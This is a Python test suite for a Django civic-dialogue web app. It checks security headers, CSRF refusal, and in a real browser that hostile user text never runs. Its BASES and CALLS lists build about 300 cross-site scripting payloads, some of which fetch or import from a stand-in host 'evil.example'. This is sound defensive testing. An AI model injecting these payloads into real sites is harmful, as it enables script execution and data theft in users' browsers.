"""T16: headers on every page, error and file; no script of a stranger runs; nothing leaves the hub.

Pass bars (TRUST.md section 4): a content policy without unsafe-inline and unsafe-eval on everything;
nosniff, Referrer-Policy, COOP, CORP, Permissions-Policy, frame-ancestors none; ``no-store`` when signed
in; in Chromium 0 violations and 0 requests to another origin over 30 pages; 300 hostile strings in
every text field, 0 executed. Control: the same pages drawn without escaping are caught.
"""

from __future__ import annotations

import re
import uuid
from collections import deque
from html import unescape

import pytest
from django.contrib.staticfiles import finders
from django.test import Client
from django.utils.safestring import SafeString

from baithak.dialogue import services as dialogues
from baithak.network import services as network
from baithak.network.scope import SYSTEM
from factories import network as make

pytestmark = [pytest.mark.trust, pytest.mark.django_db]

BASES = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>",
    "<a href=javascript:{}>here</a>", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<input autofocus onfocus={}>", "<math><mtext><img src=x onerror={}></mtext></math>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<form action=javascript:{}><button>",
    "\" onmouseover={} x=\"", "' onfocus={} autofocus x='", "\"><script>{}</script>",
    "'><svg onload={}>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</style><script>{}</script>", "-->{}<!--<script>{}</script>", "<scr<script>ipt>{}</script>",
    "{{{{{}}}}}", "${{{}}}", "<%= {} %>", "<template><script>{}</script></template>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=//evil.example>",
]  # fmt: skip
CALLS = [
    "window.hit=1", "alert(1)", "top.hit=1", "self['hit']=1", "eval('window.hit=1')", "document.title='hit'",
    "fetch('//evil.example')", "new Image().src='//evil.example'", "setTimeout('window.hit=1')",
    "import('//evil.example/x.js')",
]  # fmt: skip
HOSTILE = [base.replace("{}", call) for base in BASES for call in CALLS]

HEADERS = {
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": ("same-origin", "no-referrer"),
    "Cross-Origin-Opener-Policy": "same-origin",
    "Cross-Origin-Resource-Policy": "same-origin",
    "X-Frame-Options": "DENY",
}


def faults(response, *, signed_in: bool) -> list[str]:
    """What is wrong with the headers of this answer."""
    wrong = []
    policy = response.get("Content-Security-Policy", "")
    parts = dict(part.strip().partition(" ")[::2] for part in policy.split(";") if part.strip())
    if parts.get("default-src") != "'none'" or parts.get("frame-ancestors") != "'none'":
        wrong.append("policy is not closed by default")
    if parts.get("base-uri") != "'none'" or parts.get("form-action") != "'self'":
        wrong.append("policy lets base or forms elsewhere")
    if re.search(r"unsafe-|\*|http:|https:", policy):
        wrong.append(f"policy is open: {policy}")
    for name, wanted in HEADERS.items():
        allowed = wanted if isinstance(wanted, tuple) else (wanted,)
        if response.get(name) not in allowed:
            wrong.append(f"{name}: {response.get(name)}")
    if "camera=()" not in response.get("Permissions-Policy", ""):
        wrong.append("no Permissions-Policy")
    if signed_in and "no-store" not in response.get("Cache-Control", ""):
        wrong.append("kept by the browser of somebody signed in")
    return wrong


def links(html: str) -> list[str]:
    found = re.findall(r'(?:href|src|action|hx-get)="([^"#]+)', html)
    return [unescape(link).split("#")[0] for link in found if link.startswith("/")]


def finish(response) -> None:
    """Read a file to its end, so that the test client closes it."""
    if response.streaming:
        for _ in response.streaming_content:
            pass


def crawl(client: Client, start: str = "/en/", most: int = 400):
    """Every page that links lead to, once: (path, response). Signing out is left for last."""
    waiting, seen = deque([start]), {start}
    while waiting and len(seen) <= most:
        path = waiting.popleft()
        response = client.get(path)
        yield path, response
        finish(response)
        if "text/html" in response.get("Content-Type", "") and not response.streaming:
            for link in links(response.content.decode()):
                if link not in seen and "logout" not in link:
                    seen.add(link)
                    waiting.append(link)


@pytest.fixture
def world(settings):
    """A city with people, an open dialogue, and hostile strings in every text field."""
    settings.WHITENOISE_USE_FINDERS = True
    settings.WHITENOISE_AUTOREFRESH = True
    city = make.city()
    people = make.staffed(city)
    city.name, city.names, city.note = HOSTILE[0][:120], {"ur": HOSTILE[1]}, HOSTILE[2]
    city.save()
    officer = make.viewer(people["city_officer"])
    for n, text in enumerate(HOSTILE):
        network.add_organisation(place=city, name=f"{n} {text}"[:120], types=["cso"], by=SYSTEM)
    texts = {
        language: {
            "title": HOSTILE[n][:120],
            "question": HOSTILE[n + 50],
            "description": HOSTILE[n + 99],
        }
        for n, language in enumerate(("en", "ur", "bn"))
    }
    seeds = [{"en": (f"{n} " + text)[:140]} for n, text in enumerate(HOSTILE)]
    dialogue = dialogues.create(place=city, texts=texts, seeds=seeds, by=officer)
    draft = dialogues.create(place=city, texts=texts, seeds=seeds[:3], by=officer)
    dialogues.ask_to_open(dialogue=draft, reason=HOSTILE[7], by=officer)
    asked = dialogues.ask_to_open(dialogue=dialogue, reason=HOSTILE[8], by=officer)
    network.confirm_two_person(act=asked, by=make.viewer(people["mayor"]))
    dialogue.refresh_from_db()
    for n, text in enumerate(HOSTILE):
        told = (f"{n + 1000} " + text)[:140]
        dialogues.submit(dialogue=dialogue, text=told, language="en", handle=uuid.uuid4())
    make.person(name=HOSTILE[3][:100], email="hostile@city.example")
    make.grant(make.person(name=HOSTILE[4][:100], email="member@city.example"), city, "partner")
    return {"city": city, "people": people, "dialogue": dialogue}


def test_headers_of_every_page_error_and_file(world):
    seen, wrong = 0, []
    browsers = {
        "nobody": Client(),
        **{role: make.sign_in(user) for role, user in world["people"].items()},
    }
    for role, client in browsers.items():
        signed_in = role != "nobody"
        for path, response in crawl(client):
            seen += 1
            wrong += [
                f"{role} {path}: {fault}"
                for fault in faults(
                    response, signed_in=signed_in and not path.startswith("/static/")
                )
            ]
        for path in ("/en/nowhere/", "/en/d/nothing/", "/health", "/en/dialogue/zzzzzzz/"):
            seen += 1
            wrong += [
                f"{role} {path}: {fault}" for fault in faults(client.get(path), signed_in=signed_in)
            ]
    files = [
        path
        for finder in finders.get_finders()
        for path, _ in finder.list([])
        if path.startswith(("web/", "dialogue/", "network/", "mfa/"))
    ]
    for path in files:
        response = Client().get(f"/static/{path}")
        assert response.status_code == 200, path
        seen += 1
        wrong += [f"/static/{path}: {fault}" for fault in faults(response, signed_in=False)]
        finish(response)
    assert wrong == []
    assert seen >= 200
    assert len(files) >= 4


def test_a_weaker_policy_is_caught(world, settings):
    """Control: one unsafe word in the policy, and the test above fails."""
    settings.CONTENT_SECURITY_POLICY = {
        "DIRECTIVES": {"default-src": ["'none'"], "script-src": ["'self'", "'unsafe-inline'"]}
    }
    assert any("open" in fault for fault in faults(Client().get("/en/"), signed_in=False))


def test_forms_refuse_another_site(world):
    """Every writing page refuses a post without the hub's own proof."""
    client = Client(enforce_csrf_checks=True)
    make.sign_in(world["people"]["city_officer"], client)
    for path in (
        "/en/dialogue/new/",
        f"/en/dialogue/{world['dialogue'].code}/close/",
        "/en/me/sign-out-everywhere/",
    ):
        assert client.post(path, {}).status_code == 403


def hits(page, address: str, outside: list[str]) -> list[str]:
    """Open the page; say what ran, what the browser's policy stopped, what was asked elsewhere."""
    told: list[str] = []
    page.on("dialog", lambda dialog: (told.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.goto(address, wait_until="load")
    if page.evaluate("window.hit === 1 || document.title === 'hit'"):
        told.append("executed")
    told += page.evaluate("window.violations || []")
    return [f"{address}: {what}" for what in told]


RECORDER = (
    "window.violations = [];"
    "addEventListener('securitypolicyviolation', e => window.violations.push("
    "e.violatedDirective + ' ' + e.blockedURI));"
)


@pytest.fixture
def browser(chromium, monkeypatch):
    from playwright.sync_api import sync_playwright

    # Playwright runs a loop of its own in this thread; the database is not used from within it.
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    with (
        sync_playwright() as play,
        play.chromium.launch(
            executable_path=chromium, args=["--no-sandbox", "--disable-gpu"]
        ) as chrome,
    ):
        yield chrome


def opened(browser, live_server, outside: list[str], user=None):
    context = browser.new_context(service_workers="block")
    context.add_init_script(RECORDER)
    if user is not None:
        client = make.sign_in(user)
        context.add_cookies(
            [
                {"name": name, "value": morsel.value, "url": live_server.url}
                for name, morsel in client.cookies.items()
            ]
        )

    def watch(route):
        if not route.request.url.startswith(live_server.url + "/"):
            outside.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", watch)
    return context.new_page()


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_nothing_hostile_runs_in_a_browser(world, browser, live_server):
    outside: list[str] = []
    wrong, seen = [], 0
    for role in (None, "city_officer", "moderator"):
        user = world["people"][role] if role else None
        client = make.sign_in(user) if user else Client()
        paths = [
            path
            for path, response in crawl(client, most=60)
            if response.status_code == 200 and "text/html" in response.get("Content-Type", "")
        ]
        page = opened(browser, live_server, outside, user)
        for path in paths[:24]:
            seen += 1
            wrong += hits(page, live_server.url + path, outside)
        page.context.close()
    assert wrong == []
    assert outside == []
    assert seen >= 30


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_unescaped_text_is_caught(world, browser, live_server, monkeypatch):
    """Control: a page that trusts what people wrote is noticed by the same look."""
    from baithak.network.models import Organisation

    monkeypatch.setattr(Organisation, "__str__", lambda self: SafeString(self.name))
    monkeypatch.setattr(
        Organisation,
        "name",
        property(
            lambda self: SafeString(self.__dict__["name"]),
            lambda self, v: self.__dict__.__setitem__("name", v),
        ),
    )
    outside: list[str] = []
    page = opened(browser, live_server, outside, world["people"]["city_officer"])
    wrong = hits(page, f"{live_server.url}/en/places/{world['city'].slug}/organisations/", outside)
    assert wrong or outside
